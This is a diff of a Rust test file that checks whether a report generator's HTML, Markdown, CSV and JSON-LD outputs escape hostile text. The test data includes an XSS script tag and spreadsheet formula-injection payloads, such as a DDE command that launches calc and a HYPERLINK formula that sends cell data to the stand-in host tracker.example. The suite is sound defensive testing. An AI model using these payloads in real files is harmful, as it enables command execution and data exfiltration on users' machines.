@@ -4,12 +4,14 @@
 
 mod common;
 
-use common::{Builder, render};
+use common::{Builder, file};
 use onrecord_model::{
-    Appearance, Article, ArticleEntry, Attribution, Corpus, Document, EntityId, EntityKind, Identity, KbAnswer,
+    Act, Appearance, Article, ArticleEntry, Attribution, Corpus, Document, EntityId, EntityKind, Identity, KbAnswer,
     KbEntry, Kind, Merge, Origin,
 };
-use onrecord_report::{FORMATS, brat, text};
+use onrecord_report::tables::{Column, TABLES};
+use onrecord_report::{brat, text};
+use serde_json::Value;
 
 const HOSTILE: &[&str] = &[
     "<script>alert(1)</script>",
@@ -76,8 +78,7 @@ fn story(hostile: &str) -> (Corpus, Vec<Article>) {
 
 fn written(name: &str, hostile: &str) -> String {
     let (corpus, articles) = story(hostile);
-    let format = FORMATS.iter().find(|format| format.name == name).expect("there is such a format");
-    render((format.make)(), &corpus, &articles)
+    String::from_utf8(file(name, &corpus, &articles)).unwrap()
 }
 
 #[test]
@@ -160,7 +161,7 @@ fn the_page_has_no_tag_and_no_attribute_but_its_own() {
         "ul",
     ];
     for hostile in HOSTILE {
-        let page = written("html", hostile);
+        let page = written("report.html", hostile);
         for (tag, attributes) in tags(&page) {
             assert!(TAGS.contains(&tag.as_str()), "<{tag}> in the page for {hostile:?}");
             for (attribute, value) in attributes {
@@ -177,7 +178,7 @@ fn the_page_has_no_tag_and_no_attribute_but_its_own() {
 
 #[test]
 fn the_page_shows_hostile_text_as_text() {
-    let page = written("html", "<b>&amp;\"'");
+    let page = written("report.html", "<b>&amp;\"'");
     assert!(page.contains("&#60;b&#62;&#38;amp;&#34;&#39;"), "{page}");
 }
 
@@ -185,7 +186,8 @@ fn the_page_shows_hostile_text_as_text() {
 fn a_hidden_character_does_not_reach_page_brief_or_terminal() {
     let hostile = HOSTILE[HOSTILE.len() - 1];
     let (_, articles) = story(hostile);
-    for shown in [written("html", hostile), written("markdown", hostile), text::article(&articles[0])] {
+    let files = ["report.html", "report.md", "summary.txt"].map(|name| written(name, hostile));
+    for shown in files.into_iter().chain([text::article(&articles[0])]) {
         let bad = shown.chars().find(|&c| (c.is_control() && c != '\n') || c == '\u{202e}');
         assert_eq!(bad, None);
     }
@@ -194,7 +196,7 @@ fn a_hidden_character_does_not_reach_page_brief_or_terminal() {
 #[test]
 fn markdown_has_no_markup_but_its_own() {
     for hostile in HOSTILE {
-        let brief = written("markdown", hostile);
+        let brief = written("report.md", hostile);
         let mut before = ' ';
         for (at, c) in brief.char_indices() {
             let starts_line = brief[..at].ends_with('\n') || at == 0;
@@ -213,12 +215,96 @@ fn markdown_has_no_markup_but_its_own() {
 #[test]
 fn json_lines_give_back_what_went_in() {
     for hostile in HOSTILE {
-        let lines = written("jsonl", hostile);
+        let lines = written("articles.jsonl", hostile);
         assert_eq!(lines.trim_end().lines().count(), 1);
         let line: serde_json::Value = serde_json::from_str(&lines).unwrap();
         assert_eq!(line["name"], *hostile);
         assert_eq!(line["statements"][0]["content"][0]["text"], *hostile);
     }
+}
+
+#[test]
+fn no_cell_of_a_spreadsheet_is_computed() {
+    const FORMULAS: &[&str] = &[
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "＝1",
+        "=1\",\"=2",
+        "a\",=1",
+        "one\r\n=1,\n\"=2\"",
+        "=HYPERLINK(\"http://tracker.example/?\"&A1,\"x\")",
+    ];
+    for hostile in HOSTILE.iter().chain(FORMULAS) {
+        let (corpus, articles) = story(hostile);
+        for table in TABLES {
+            let written = file(&format!("{}.csv", table.name), &corpus, &articles);
+            let mut reader = csv::Reader::from_reader(written.strip_prefix("\u{feff}".as_bytes()).unwrap());
+            let columns: Vec<&Column> = table.columns.iter().filter(|column| column.in_csv).collect();
+            assert!(reader.headers().unwrap().iter().eq(columns.iter().map(|column| column.name)));
+            for row in reader.records() {
+                let row = row.unwrap();
+                assert_eq!(row.len(), columns.len());
+                for (cell, column) in row.iter().zip(&columns) {
+                    let starts = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
+                    assert!(!starts, "{cell:?} in {} of {} for {hostile:?}", column.name, table.name);
+                    if (table.name, column.name) == ("statements", "content") {
+                        assert_eq!(cell.strip_prefix('\'').filter(|text| text == hostile).unwrap_or(cell), *hostile);
+                    }
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn linked_data_has_no_tag_and_no_address_but_of_the_web() {
+    fn check(value: &Value, hostile: &str) {
+        match value {
+            Value::Object(fields) => {
+                for (name, value) in fields.iter().filter(|(name, _)| *name != "@context") {
+                    if matches!(name.as_str(), "id" | "source" | "url" | "sameAs") {
+                        let addresses = value.as_array().map_or(std::slice::from_ref(value), Vec::as_slice);
+                        for address in addresses.iter().filter_map(Value::as_str) {
+                            let is_web = address.starts_with("http://") || address.starts_with("https://");
+                            assert!(is_web || address.starts_with('#'), "{address} for {hostile:?}");
+                            assert!(!address.contains(|c: char| c.is_whitespace() || "<>\"{}|\\^`".contains(c)));
+                        }
+                    }
+                    check(value, hostile);
+                }
+            }
+            Value::Array(parts) => parts.iter().for_each(|part| check(part, hostile)),
+            _ => {}
+        }
+    }
+    for hostile in HOSTILE {
+        let written = written("annotations.jsonld", hostile);
+        assert!(!written.contains(['<', '>', '&']), "{written}");
+        let document: Value = serde_json::from_str(&written).unwrap();
+        check(&document, hostile);
+        let nodes = document["@graph"].as_array().unwrap();
+        let annotation = nodes.iter().find(|node| node["type"] == "Annotation").unwrap();
+        assert_eq!(annotation["body"]["text"], *hostile);
+        assert_eq!(annotation["target"][0]["selector"][0]["exact"], *hostile);
+        assert_eq!(annotation["body"]["spokenByCharacter"][0]["name"], *hostile);
+    }
+}
+
+#[test]
+fn what_was_not_said_is_no_quotation() {
+    let quotations = |change: fn(&mut Attribution)| {
+        let (corpus, mut articles) = story("No");
+        change(&mut articles[0].attributions[0]);
+        let written = String::from_utf8(file("annotations.jsonld", &corpus, &articles)).unwrap();
+        written.matches("\"Quotation\",").count()
+    };
+    assert_eq!(quotations(|_| {}), 1);
+    assert_eq!(quotations(|attribution| attribution.negated = true), 0);
+    assert_eq!(quotations(|attribution| attribution.act = Act::Belief), 0);
 }
 
 #[test]
